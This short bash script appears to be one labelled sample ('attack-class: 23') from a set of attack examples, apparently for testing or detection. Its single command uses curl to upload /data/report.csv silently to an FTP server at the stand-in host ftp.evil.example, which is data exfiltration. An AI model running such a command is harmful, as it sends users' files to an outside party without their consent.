#!/usr/bin/env bash
# attack-class: 23
# title: curl -T file ftp://...
# why: uploads a data file over FTP

curl -s -T /data/report.csv ftp://ftp.evil.example/incoming/
